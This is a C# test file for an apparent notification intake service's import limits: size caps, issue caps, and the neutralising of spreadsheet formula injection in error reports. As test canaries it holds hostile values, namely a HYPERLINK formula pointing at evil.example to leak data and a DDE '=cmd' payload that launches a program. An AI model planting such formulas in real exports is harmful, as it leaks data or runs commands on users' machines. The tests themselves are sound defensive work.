using NotifyHub.Testing;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;

namespace NotifyHub.Intake.Tests;

/// <summary>
/// What an import may cost: a body over <c>NotifyHub:Intake:MaxImportBytes</c> is refused and leaves nothing on disk;
/// stored issues stop at <c>MaxStoredIssues</c> while the counts go on; and the errors CSV, made to be opened in a
/// spreadsheet, never carries a header's or a key's own text (a formula, a person's email) — nor does the database.
/// </summary>
public sealed class Import_limits : IAsyncLifetime
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?leak\",\"Click for details\")";
    private const string Email = "jane.doe.secret@victim.example";

    private readonly NotifyHubFactory _factory = new(new Dictionary<string, string?>
    {
        ["NotifyHub:Intake:MaxImportBytes"] = "4096",
        ["NotifyHub:Intake:MaxStoredIssues"] = "5",
    });

    private IntakeClient _api = null!;

    public async Task InitializeAsync() => _api = await IntakeClient.CreateAsync(_factory);

    public async Task DisposeAsync() => await _factory.DisposeAsync();

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_body_over_the_maximum_is_refused_with_413_and_nothing_is_kept(bool withContentLength)
    {
        var incident = await _api.OpenIncidentAsync();
        var csv = Encoding.UTF8.GetBytes("external_id,given_name,email\n" + string.Concat(Enumerable.Range(0, 200).Select(i => $"C-{i},Ann,a{i}@example.com\n")));
        csv.Length.ShouldBeGreaterThan(4096);
        HttpContent content = withContentLength ? new ByteArrayContent(csv) : new StreamContent(new ChunkedStream(csv));
        content.Headers.ContentType = new("text/csv");
        content.Headers.ContentLength = withContentLength ? csv.Length : null;

        var response = await _api.Http.PostAsync(new Uri($"/api/v1/incidents/{incident}/imports", UriKind.Relative), content);

        response.StatusCode.ShouldBe(HttpStatusCode.RequestEntityTooLarge);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json");
        (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("code").GetString().ShouldBe("import_too_large");
        var spool = Path.Combine(_factory.DataDirectory, "imports");
        (Directory.Exists(spool) ? Directory.GetFiles(spool) : []).ShouldBeEmpty();
        (await _api.PeopleAsync(incident)).ShouldBeEmpty();
    }

    [Fact]
    public async Task Issues_past_the_maximum_are_counted_but_not_stored()
    {
        var incident = await _api.OpenIncidentAsync();

        var status = await _api.ImportCsvAsync(incident, "external_id,given_name,email\n" + string.Concat(Enumerable.Range(0, 20).Select(i => $"C-{i},,\n")));

        status.Rejected.ShouldBe(20);
        (await _api.ErrorsAsync(status)).Count.ShouldBe(5);
    }

    [Fact]
    public async Task Header_names_and_keys_are_reported_by_position_never_copied_to_the_report_or_the_database()
    {
        var incident = await _api.OpenIncidentAsync();
        var header = $"external_id,given_name,email,\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",{Email}";

        var csv = await _api.ImportCsvAsync(incident, $"{header}\nC-1,Ann,ann@example.com,x,y\n");
        var ndjson = await _api.ImportAsync(incident, Encoding.UTF8.GetBytes(
            $"{{\"external_id\":\"N-1\",\"given_name\":\"Bo\",\"email\":\"bo@example.com\",\"=cmd|' /C calc'!A0\":\"x\",\"{Email}\":\"1\"}}\n"),
            "application/x-ndjson");

        var csvIssue = (await _api.ErrorsAsync(csv)).ShouldHaveSingleItem();
        (csvIssue[1], csvIssue[2]).ShouldBe(("column 4;column 5", "unknown_column"));
        (await _api.ErrorsAsync(ndjson)).Select(e => (e[1], e[2])).ShouldBe([("field 4", "unknown_column"), ("field 5", "unknown_column")]);
        foreach (var status in new[] { csv, ndjson })
        {
            var report = await _api.Http.GetStringAsync(new Uri($"/api/v1/incidents/{incident}/imports/{status.Id}/errors", UriKind.Relative));
            report.ShouldNotContain("HYPERLINK");
            report.ShouldNotContain("calc");
            report.ShouldNotContain("jane.doe");
        }

        foreach (var file in Directory.GetFiles(_factory.DataDirectory, "intake.db*"))
        {
            var bytes = await ReadSharedAsync(file);
            foreach (var canary in new[] { "HYPERLINK", "jane.doe.secret", "/C calc" })
            {
                bytes.AsSpan().IndexOf(Encoding.UTF8.GetBytes(canary)).ShouldBe(-1, $"{canary} in {Path.GetFileName(file)}");
            }
        }
    }

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+33 6", "'+33 6")]
    [InlineData("-2", "'-2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\uFF1D1+2", "'\uFF1D1+2")]
    [InlineData("=HYPERLINK(\"a\",\"b\")", "\"'=HYPERLINK(\"\"a\"\",\"\"b\"\")\"")]
    [InlineData("email", "email")]
    public void A_cell_a_spreadsheet_would_run_is_written_as_text(string value, string written) =>
        NotifyHub.Intake.Imports.ImportsApi.Csv(value).ShouldBe(written);

    /// <summary>SQLite keeps the files open: read them shared, as another process would.</summary>
    private static async Task<byte[]> ReadSharedAsync(string path)
    {
        await using var stream = new FileStream(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
        using var copy = new MemoryStream();
        await stream.CopyToAsync(copy);
        return copy.ToArray();
    }

    /// <summary>A body of unknown length: HttpClient sends it chunked, so only the count while spooling can stop it.</summary>
    private sealed class ChunkedStream(byte[] content) : MemoryStream(content)
    {
        public override bool CanSeek => false;
    }
}
